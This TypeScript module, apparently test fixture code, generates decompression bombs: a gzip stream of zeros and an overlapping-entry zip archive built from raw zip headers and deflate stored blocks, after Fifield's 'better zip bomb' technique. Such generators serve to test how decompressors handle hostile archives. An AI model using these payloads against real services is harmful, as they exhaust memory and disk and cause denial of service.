import { Readable } from 'node:stream'
import { constants, createGzip, deflateRawSync } from 'node:zlib'

const mebibyte = 1024 * 1024

/** Streams zeros. */
export function zeros(sizeBytes: number): Readable {
  return Readable.from(chunks(sizeBytes, Buffer.alloc(mebibyte)))
}

function* chunks(sizeBytes: number, chunk: Buffer) {
  for (let left = sizeBytes; left > 0; left -= chunk.length) yield chunk.subarray(0, left)
}

/** Streams zeros compressed by a factor of a thousand. */
export function gzipBomb(sizeBytes: number): Readable {
  return zeros(sizeBytes).pipe(createGzip({ level: constants.Z_BEST_SPEED }))
}

/**
 * Makes a zip archive whose entries share one run of compressed bytes, as in David Fifield's "A better zip bomb" (2019). Each local
 * header is a stored block of the entry before it. The checksums are wrong.
 */
export function overlappingZip(entryCount: number, kernelBytes: number): Buffer {
  let body: Buffer = deflateRawSync(Buffer.alloc(kernelBytes))
  let sizeBytes = kernelBytes
  const headers: Buffer[] = []
  for (let index = entryCount - 1; index >= 0; index -= 1) {
    const header = localHeader(`${index}`.padStart(5, '0'), body.length, sizeBytes)
    headers.unshift(header)
    body = Buffer.concat([...(index > 0 ? [storedBlock(header.length)] : []), header, body])
    sizeBytes += header.length
  }
  let at = 0
  const entries = headers.map((header) => {
    const entry = directoryEntry(header, at)
    at += header.length + storedBlockBytes
    return entry
  })
  const directory = Buffer.concat(entries)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entryCount, 8)
  end.writeUInt16LE(entryCount, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(body.length, 16)
  return Buffer.concat([body, directory, end])
}

/** Makes the header of a stored block of deflate (RFC 1951 §3.2.4) that is not the last one. */
const storedBlockBytes = 5

function storedBlock(length: number): Buffer {
  const head = Buffer.alloc(storedBlockBytes)
  head.writeUInt16LE(length, 1)
  head.writeUInt16LE(0xffff - length, 3)
  return head
}

function localHeader(name: string, compressedBytes: number, sizeBytes: number): Buffer {
  const header = Buffer.alloc(30)
  header.writeUInt32LE(0x04034b50, 0)
  header.writeUInt16LE(20, 4)
  header.writeUInt16LE(8, 8)
  header.writeUInt16LE(0x21, 12)
  header.writeUInt32LE(compressedBytes, 18)
  header.writeUInt32LE(sizeBytes, 22)
  header.writeUInt16LE(name.length, 26)
  return Buffer.concat([header, Buffer.from(name)])
}

/** Makes the directory entry for a local header at an offset. */
function directoryEntry(header: Buffer, at: number): Buffer {
  const entry = Buffer.alloc(46)
  entry.writeUInt32LE(0x02014b50, 0)
  entry.writeUInt16LE(20, 4)
  header.copy(entry, 6, 4, 30)
  entry.writeUInt32LE(at, 42)
  return Buffer.concat([entry, header.subarray(30)])
}
